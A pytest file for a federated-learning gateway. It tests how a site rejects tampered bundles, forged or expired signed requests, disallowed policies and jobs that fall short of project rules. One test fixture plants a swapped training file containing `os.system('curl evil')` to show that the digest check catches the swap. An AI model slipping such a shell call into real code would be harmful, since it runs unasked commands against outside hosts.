"""A site decides by what it read itself and by its own files, not by what a gateway says."""

from __future__ import annotations

import asyncio
import base64
import json
import secrets
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from fedgate.bundle import digest_of, pack_files
from fedgate.codes import Code
from fedgate.errors import (
    Denied,
    FedgateError,
    InvalidBundle,
    InvalidMessage,
    NotFound,
    PluginUnavailable,
)
from fedgate.manifest import Manifest
from fedgate.notice import Notice
from fedgate_gateway.attestation import Claims
from fedgate_gateway.config import Dataset, Member, ProjectConfig, Release, SiteConfig
from fedgate_gateway.enclave import admission
from fedgate_gateway.governance import (
    JobRequest,
    SignedBy,
    SignedRequest,
    read_unverified,
    sign_request,
)
from fedgate_gateway.inspection import InspectionProcess, Inspector
from fedgate_gateway.link.request_book import RequestBook
from fedgate_gateway.link.review_answer import ReviewAnswer
from fedgate_gateway.link.signed_job import verify_signature
from fedgate_gateway.link.spec import Spec
from fedgate_gateway.link.terms import fingerprint
from fedgate_gateway.site.decision import Decider, Examined
from fedgate_gateway.site.decision import examine as examine_slowly
from fedgate_proto.v1 import link_pb2 as pb

FILES = {"plain.toml": b'name = "n"\nmodule = "w.py"\nrounds = 1\n', "w.py": b"def train(): ..."}
BUNDLE = pack_files(FILES)
RECIPIENT = b"r" * 1216
SIGNER, GATEWAY = Ed25519PrivateKey.generate(), Ed25519PrivateKey.generate()
SIMULATED = Claims("simulated", False, "ab" * 32, bytes(64))
OPEN = "permit(principal, action, resource);"


def config(folder: Path, policy: str = OPEN, **changes: Any) -> SiteConfig:
    (folder / "policy.cedar").write_text(policy)
    fields: dict[str, Any] = {
        "name": "a", "data": folder, "gateway": "localhost:1", "api": "https://localhost:2",
        "adapters": ("plain",), "evidence": ("simulated",), "policy": folder / "policy.cedar",
        "projects": (), "datasets": {"numbers": Dataset(path=folder)}, **changes,
    }  # fmt: skip
    return SiteConfig(**fields)


def member(key: Ed25519PrivateKey) -> Member:
    raw = key.public_key().public_bytes_raw()
    return Member(identity=base64.b64encode(raw).decode())


def decider(
    folder: Path,
    policy: str = OPEN,
    release: Release | None = None,
    enclaves: dict[str, Member] | None = None,
    **changes: Any,
) -> Decider:
    members = {name: Member(identity="A" * 43 + "=") for name in ("a", "b")}
    project = ProjectConfig(
        name="demo", members=members, enclaves=enclaves or {}, recipients=(fingerprint(RECIPIENT),),
        submitters={"me": member(SIGNER)}, gateways={"gate": member(GATEWAY)},
        release=release or Release(),
    )  # fmt: skip
    return Decider(config(folder, policy, **changes), {"demo": project})


OTHER = {name: Member(identity="B" * 42 + "A=") for name in ("one", "two")}


def spec(*, signed: bytes | None = None, **changes: Any) -> Spec:
    """As the gateway describes the job; signed for just that, unless told otherwise."""
    fields: dict[str, Any] = {
        "job": "job-1", "project": "demo", "name": "n", "bundle": digest_of(BUNDLE),
        "bundle_bytes": len(BUNDLE), "framework": "plain", "submitter": "me", "sites": ["a", "b"],
        "manifest": json.dumps({"framework": "plain", "name": "n"}), "min_sites": 1, "config": "{}",
        "recipient": RECIPIENT,
        "request": b"signed",
    }  # fmt: skip
    fields = {**fields, **changes}
    fields["request"] = sign(**fields) if signed is None else signed
    return Spec.read(pb.JobSpec(**fields))


def sign(*, key: Ed25519PrivateKey = SIGNER, now: float | None = None, **job: Any) -> bytes:
    """A request for ``job``, in the words of the gateway's message."""
    created = int(time.time() if now is None else now)
    request = JobRequest(
        project=job["project"], bundle=job["bundle"], name=job["name"], submitter=job["submitter"],
        sites=tuple(job["sites"]), datasets=tuple(job.get("datasets", ())),
        min_sites=job["min_sites"], config=json.loads(job["config"]), task_seconds=None,
        recipient=fingerprint(job["recipient"]) if job["recipient"] else "",
        created=created, expires=created + 60, nonce=secrets.token_hex(16),
        enclave=job.get("signed_enclave", ""),
    )  # fmt: skip
    return sign_request(request, key)


_process = InspectionProcess(("plain",))


@pytest.fixture(scope="module", autouse=True)
def _one_process_reads_all_bundles() -> Iterator[None]:
    yield
    _process.close()


def examine(job: Spec, archive: bytes, site: SiteConfig) -> Examined:
    inspector = Inspector(site.adapters, process=_process)
    return asyncio.run(examine_slowly(job, archive, site, inspector))


def signature(site: Decider, folder: Path, job: Spec) -> SignedRequest:
    return site.signature(job, RequestBook(folder))


def before(site: Decider, job: Spec, manifest: Manifest) -> list[str]:
    """As the agent asks on an offer."""
    return site.before(job, manifest, verify_signature(job, site.project(job)))


def test_a_site_parses_the_bundle_itself(tmp_path: Path) -> None:
    lie = spec(framework="flower", manifest=json.dumps({"framework": "flower", "name": "nice"}))
    assert examine(lie, BUNDLE, config(tmp_path)).manifest.framework == "plain"


@pytest.mark.parametrize(
    "delivered",
    [
        pack_files({**FILES, "w.py": b"import os; os.system('curl evil')"}),
        BUNDLE + b"\0",
        BUNDLE[:-1],
        b"",
    ],
    ids=["swapped", "longer", "shorter", "nothing"],
)
def test_a_gateway_that_swaps_the_bundle_is_caught_by_its_digest(
    tmp_path: Path, delivered: bytes
) -> None:
    with pytest.raises(InvalidBundle):
        examine(spec(), delivered, config(tmp_path))


def test_a_framework_that_the_site_does_not_allow_is_not_even_inspected(tmp_path: Path) -> None:
    with pytest.raises((PluginUnavailable, FedgateError)):
        examine(spec(), BUNDLE, config(tmp_path, adapters=("flower",)))


def test_an_owner_who_remembers_nothing_declines_a_series(tmp_path: Path) -> None:
    series = spec(config='{"fedgate.series": "study"}')
    manifest = examine(series, BUNDLE, config(tmp_path)).manifest
    assert before(decider(tmp_path), series, manifest)
    with pytest.raises(Denied, match="remembers nothing"):
        before(decider(tmp_path, series_days=0), series, manifest)
    assert before(decider(tmp_path, series_days=0), spec(), manifest)
    never = (
        OPEN
        + 'forbid(principal, action, resource) when {context.config.contains("fedgate.series")};'
    )
    with pytest.raises(Denied):
        before(decider(tmp_path, never), series, manifest)


@pytest.mark.parametrize("amount", [2, float("nan"), "many"])
def test_a_job_that_asks_for_more_than_a_site_has_is_declined(tmp_path: Path, amount: Any) -> None:
    manifest = Manifest("plain", "n", resources={"a:num_of_gpus": amount, "b:num_of_gpus": 9})
    for has in ({}, {"num_of_gpus": 1}, {"num_of_cpus": 8}):
        with pytest.raises(Denied, match=r"does not have .* num_of_gpus"):
            before(decider(tmp_path, resources=has), spec(), manifest)


def test_a_job_that_asks_for_what_a_site_has_or_for_none_takes_part(tmp_path: Path) -> None:
    two = Manifest("plain", "n", resources={"a:num_of_gpus": 2, "a:mem_per_gpu_in_GiB": 8.0})
    none = Manifest("plain", "n", resources={"a:num_of_gpus": 0, "b:num_of_gpus": 1})
    has = {"num_of_gpus": 2, "mem_per_gpu_in_GiB": 24}
    assert before(decider(tmp_path, resources=has), spec(), two)
    assert before(decider(tmp_path), spec(), none)


def test_a_job_of_the_project_is_accepted_with_the_policys_reason(tmp_path: Path) -> None:
    manifest = examine(spec(), BUNDLE, config(tmp_path)).manifest
    assert before(decider(tmp_path), spec(), manifest)


@pytest.mark.parametrize(
    ("changes", "error"),
    [
        ({"project": "other"}, NotFound),
        ({"sites": ["a", "fake"]}, Denied),
        ({"sites": ["b"]}, Denied),
        ({"datasets": ["secrets"]}, Denied),
        ({"recipient": b"g" * 1216}, Denied),
        ({"recipient": b""}, Denied),
    ],
    ids=[
        "unknown project",
        "a site that is no member",
        "not for us",
        "a dataset we do not have",
        "sealed to the gateway's own key",
        "sealed to nobody",
    ],
)
def test_a_job_that_is_not_of_our_project_is_denied(
    tmp_path: Path, changes: dict[str, Any], error: type[FedgateError]
) -> None:
    manifest = examine(spec(), BUNDLE, config(tmp_path)).manifest
    with pytest.raises(error):
        before(decider(tmp_path), spec(**changes), manifest)


@pytest.mark.parametrize(
    "policy",
    [
        """permit(principal, action == Action::"join", resource)
           when { context.evidence.kind == "tdx" };""",
        "forbid(principal, action, resource);",
        OPEN + "forbid(principal, action, resource);",
    ],
)
def test_a_policy_that_does_not_say_yes_says_no(tmp_path: Path, policy: str) -> None:
    manifest = examine(spec(), BUNDLE, config(tmp_path)).manifest
    with pytest.raises(Denied, match="does not take part"):
        before(decider(tmp_path, policy), spec(), manifest)


def test_a_no_has_a_code_and_names_and_what_a_policy_says_is_its_owners(tmp_path: Path) -> None:
    said = '@why("Not here.") forbid(principal, action, resource);'
    manifest = examine(spec(), BUNDLE, config(tmp_path)).manifest
    for made, changes, code, about in (
        ({}, {"datasets": ["secrets"]}, Code.LACKS_DATASET, ["secrets"]),
        ({}, {"sites": ["a", "fake"]}, Code.NOT_A_MEMBER, []),
        ({}, {"project": "other"}, Code.NO_SUCH_PROJECT, []),
        ({"policy": said}, {}, Code.POLICY_DECLINES, ["Not here."]),
        ({"series_days": 0}, {"config": '{"fedgate.series": "s"}'}, Code.NO_SERIES, []),
        ({"evidence": ()}, {}, Code.NO_EVIDENCE, []),
    ):
        with pytest.raises(FedgateError) as refused:
            before(decider(tmp_path, **made), spec(**changes), manifest)
        answer = ReviewAnswer.no(refused.value)
        assert (answer.notice.code, list(answer.about)) == (code, about)
    lie = replace(spec(), config={"rounds": 0})
    with pytest.raises(Denied) as refused:
        before(decider(tmp_path), lie, manifest)
    assert ReviewAnswer.no(refused.value).about == ("config",)
    overflow = (
        OPEN + "forbid(principal, action, resource) when "
        "{ context.site_count * 9223372036854775807 > 1 };"
    )
    with pytest.raises(Denied, match="could not be evaluated") as refused:
        before(decider(tmp_path, overflow), spec(), manifest)
    answer = ReviewAnswer.no(refused.value)
    assert (answer.notice.code, answer.about) == (Code.POLICY_FAILED, ())


def test_a_site_that_trusts_no_kind_of_evidence_takes_no_part(tmp_path: Path) -> None:
    manifest = examine(spec(), BUNDLE, config(tmp_path)).manifest
    with pytest.raises(Denied, match="no kind of evidence"):
        before(decider(tmp_path, evidence=()), spec(), manifest)


def test_the_policy_is_asked_again_with_what_the_evidence_really_says(tmp_path: Path) -> None:
    hardware_only = (
        'permit(principal, action == Action::"join", resource) when { context.evidence.hardware };'
    )
    manifest = examine(spec(), BUNDLE, config(tmp_path)).manifest
    site = decider(tmp_path, hardware_only, evidence=("tdx", "simulated"))
    before(site, spec(), manifest)  # a TDX enclave would do
    with pytest.raises(Denied, match="refuses the enclave"):
        with_claims(site, manifest, Claims("simulated", False, "ab" * 32, bytes(64)))
    with_claims(site, manifest, Claims("tdx", True, "ab" * 32, bytes(64)))


def with_claims(
    site: Decider, manifest: Manifest, claims: Claims = SIMULATED, sandbox: str = "bubblewrap"
) -> None:
    job = spec()
    signed = verify_signature(job, site.project(job))
    site.with_claims(job, manifest, signed, claims, sandbox)


def test_a_policy_that_wants_a_sandbox_accepts_the_job_and_refuses_the_enclave_without_one(
    tmp_path: Path,
) -> None:
    confined = (
        OPEN
        + """forbid(principal, action == Action::"join", resource)
                         when { context.evidence.sandbox == "process" };"""
    )
    manifest = examine(spec(), BUNDLE, config(tmp_path)).manifest
    site = decider(tmp_path, confined)
    before(site, spec(), manifest)
    with_claims(site, manifest, sandbox="bubblewrap")
    with pytest.raises(Denied, match="refuses the enclave"):
        with_claims(site, manifest, sandbox="process")


def test_a_job_that_nobody_signed_is_no_job() -> None:
    with pytest.raises(InvalidMessage, match="without a signed request"):
        spec(signed=b"")


def test_a_request_that_is_none_is_denied(tmp_path: Path) -> None:
    with pytest.raises(Denied, match="malformed"):
        signature(decider(tmp_path), tmp_path, spec(signed=b"{}"))


def test_a_stranger_s_signature_is_denied(tmp_path: Path) -> None:
    honest = spec()
    stranger = Ed25519PrivateKey.generate()
    with pytest.raises(Denied, match="nobody in project"):
        signature(decider(tmp_path), tmp_path, honest_but(honest, key=stranger))


def test_a_request_that_has_expired_is_denied(tmp_path: Path) -> None:
    with pytest.raises(Denied, match="expired"):
        signature(decider(tmp_path), tmp_path, honest_but(spec(), now=time.time() - 3600))


def test_a_job_that_began_in_its_request_s_time_is_rejoined_after_it_and_no_other(
    tmp_path: Path,
) -> None:
    """The agent was restarted in the middle, and its request has expired meanwhile."""
    site, expired = decider(tmp_path), honest_but(spec(), now=time.time() - 3600)
    asked = read_unverified(expired.request)
    begun = SignedRequest(asked.request, asked.digest, "me", SignedBy.SUBMITTER)
    RequestBook(tmp_path).claim(begun, expired.job)
    assert signature(site, tmp_path, expired).digest == asked.digest
    with pytest.raises(Denied, match="expired"):
        signature(site, tmp_path, replace(expired, job="job-2"))
    RequestBook(tmp_path).done(begun)
    with pytest.raises(Denied, match="expired"):
        signature(site, tmp_path, expired)


def honest_but(job: Spec, **how: Any) -> Spec:
    """The same job, its request signed in another way."""
    fields = {
        "project": job.project, "bundle": job.bundle, "name": job.name, "submitter": "me",
        "sites": job.sites, "min_sites": job.min_sites, "config": "{}", "recipient": RECIPIENT,
    }  # fmt: skip
    return replace(job, request=sign(**how, **fields))


@pytest.mark.parametrize(
    ("lie", "field"),
    [
        ({"config": {"rounds": 0}}, "config"),
        ({"datasets": ("numbers",)}, "datasets"),
        ({"submitter": "somebody that the policy trusts"}, "submitter"),
        ({"min_sites": 2}, "min_sites"),
        ({"task_seconds": 9.0}, "task_seconds"),
        ({"name": "another title"}, "name"),
        ({"sites": ("a",)}, ""),
    ],
)
def test_what_the_gateway_changes_is_noticed(
    tmp_path: Path, lie: dict[str, Any], field: str
) -> None:
    manifest = examine(spec(), BUNDLE, config(tmp_path)).manifest
    site, told = decider(tmp_path), replace(spec(), **lie)
    if not field:  # others may decline: fewer sites are no lie, as long as they are enough
        before(site, told, manifest)
        return
    with pytest.raises(Denied, match=f"not what its submitter signed: {field}"):
        before(site, told, manifest)


def test_a_job_with_fewer_sites_than_its_workload_needs_is_denied(tmp_path: Path) -> None:
    manifest = examine(spec(), BUNDLE, config(tmp_path)).manifest
    with pytest.raises(Denied, match="needs at least 2 sites"):
        before(decider(tmp_path), spec(), replace(manifest, min_sites=2))


ONE_SITE_IN_ARTIFACTS = Release(
    minimum_cohort=2, artifacts_minimum_cohort=1, logs_minimum_cohort=1, metrics_minimum_cohort=1
)


@pytest.mark.parametrize(
    ("release", "job", "sites", "least"),
    [
        (Release(minimum_cohort=2), {}, 1, 2),
        (Release(minimum_cohort=2), {"sites": ("a",), "min_sites": 1}, 1, 2),
        (Release(minimum_cohort=3), {"min_sites": 2}, 2, 3),
        (Release(logs_minimum_cohort=3), {"min_sites": 2}, 2, 3),
        (ONE_SITE_IN_ARTIFACTS, {}, 1, 2),
    ],
)
def test_a_job_that_could_go_on_with_fewer_sites_than_its_project_releases_is_denied(
    tmp_path: Path, release: Release, job: dict[str, Any], sites: int, least: int
) -> None:
    manifest = examine(spec(), BUNDLE, config(tmp_path)).manifest
    with pytest.raises(Denied, match="too few for its project") as denied:
        before(decider(tmp_path, release=release), spec(**job), manifest)
    assert denied.value.notice.numbers == {"min_sites": sites, "least": least}


def test_a_minimum_that_the_gateway_lowered_is_told_as_what_it_is(tmp_path: Path) -> None:
    manifest = examine(spec(), BUNDLE, config(tmp_path)).manifest
    site = decider(tmp_path, release=Release(minimum_cohort=2))
    with pytest.raises(Denied, match="not what its submitter signed: min_sites"):
        before(site, replace(spec(min_sites=2), min_sites=1), manifest)


def test_where_a_submitter_leaves_the_minimum_open_it_is_the_projects(tmp_path: Path) -> None:
    manifest = examine(spec(), BUNDLE, config(tmp_path)).manifest
    site = decider(tmp_path, release=Release(minimum_cohort=2))
    open_ = honest_but(replace(spec(), min_sites=None))  # type: ignore[arg-type]
    before(site, replace(open_, min_sites=2), manifest)
    with pytest.raises(Denied, match="too few for its project"):
        before(site, replace(open_, min_sites=1), manifest)


def test_a_policy_sees_how_many_sites_stand_behind_each_output(tmp_path: Path) -> None:
    rule = (
        OPEN
        + """forbid(principal, action == Action::"join", resource)
                     when { context.release.artifacts_minimum_cohort < 2 };"""
    )
    manifest = examine(spec(), BUNDLE, config(tmp_path)).manifest
    two = spec(min_sites=2)
    before(decider(tmp_path, rule, Release(minimum_cohort=2)), two, manifest)
    with pytest.raises(Denied, match="does not take part"):
        before(decider(tmp_path, rule, ONE_SITE_IN_ARTIFACTS), two, manifest)


def test_a_policy_sees_who_signed(tmp_path: Path) -> None:
    rule = (
        OPEN
        + """forbid(principal, action == Action::"join", resource)
                     when { context.signed_by == "gateway" };"""
    )
    manifest = examine(spec(), BUNDLE, config(tmp_path)).manifest
    site = decider(tmp_path, rule)
    before(site, spec(), manifest)
    with pytest.raises(Denied, match="does not take part"):
        before(site, honest_but(spec(), key=GATEWAY), manifest)
    before(decider(tmp_path), honest_but(spec(), key=GATEWAY), manifest)  # the project lists it


def test_frames_that_a_workload_needs_and_the_owner_does_not_allow_are_a_no(tmp_path: Path) -> None:
    from dataclasses import replace

    manifest = examine(spec(), BUNDLE, config(tmp_path)).manifest
    with pytest.raises(Denied):
        before(decider(tmp_path), spec(), replace(manifest, frames=("aux:swarm",)))


def test_a_workload_that_waits_for_trainers_needs_an_owner_who_has_some(tmp_path: Path) -> None:
    manifest = replace(examine(spec(), BUNDLE, config(tmp_path)).manifest, attaches=True)
    with pytest.raises(Denied, match="runs no trainers outside its sandbox"):
        before(decider(tmp_path), spec(), manifest)
    assert before(decider(tmp_path, trainers=tmp_path), spec(), manifest)


def test_a_request_is_run_by_one_enclave_which_sees_when_it_is_run_again(tmp_path: Path) -> None:
    """Two enclaves of a project would each find one job, at other sites each, as it was signed."""
    one_only = dict(list(OTHER.items())[:1])
    only, several = decider(tmp_path, enclaves=one_only), decider(tmp_path, enclaves=OTHER)
    open_, at_one = spec(), honest_but(spec(), signed_enclave="one")
    assert signature(only, tmp_path, replace(open_, enclave="one"))
    with pytest.raises(Denied, match="names no enclave"):  # in review already
        signature(several, tmp_path, open_)
    assert signature(several, tmp_path, at_one)
    assert signature(several, tmp_path, replace(at_one, enclave="one"))
    with pytest.raises(Denied, match="not what its submitter signed: enclave"):
        signature(several, tmp_path, replace(at_one, enclave="two"))
    for stranger in (replace(open_, enclave="two"), honest_but(spec(), signed_enclave="two")):
        with pytest.raises(Denied, match="not an enclave of project"):
            signature(only, tmp_path, stranger)


def test_an_enclave_runs_no_request_of_another_one() -> None:
    members = {name: Member(identity="A" * 43 + "=") for name in ("a", "b")}
    project = ProjectConfig(
        name="demo", members=members, enclaves=OTHER, recipients=(fingerprint(RECIPIENT),),
        submitters={"me": member(SIGNER)},
    )  # fmt: skip
    job = honest_but(spec(), signed_enclave="one")
    assert admission.check(replace(job, enclave="one"), project)
    with pytest.raises(Denied, match="not what its submitter signed: enclave"):
        admission.check(replace(job, enclave="two"), project)
    with pytest.raises(Denied, match="names no enclave"):
        admission.check(replace(spec(), enclave="two"), project)


def asking(site: Decider, job: Spec) -> list[str]:
    """:func:`before` for a request that asks for files."""
    signed = verify_signature(job, site.project(job))
    asked = replace(signed, request=replace(signed.request, site_files=True))
    return site.before(job, Manifest("plain", "n"), asked)


def test_a_no_to_files_that_is_sure_is_told_before_the_job_runs(tmp_path: Path) -> None:
    open_project = Release(site_files="one-site-sealed")
    with pytest.raises(Denied) as refused:
        asking(decider(tmp_path), spec())
    assert refused.value.notice == Notice(Code.FILES_NOT_IN_PROJECT)
    assert 'site_files = "one-site-sealed"' in refused.value.remedy
    reasons = asking(decider(tmp_path, release=open_project), spec())
    assert "keeps the files" in reasons[-2]
    line = 'permit (principal, action == Action::"release_files", resource);'
    assert f"policy.cedar: {line}" in reasons[-1]
    assert len(asking(decider(tmp_path, OPEN + line, release=open_project), spec())) == 1
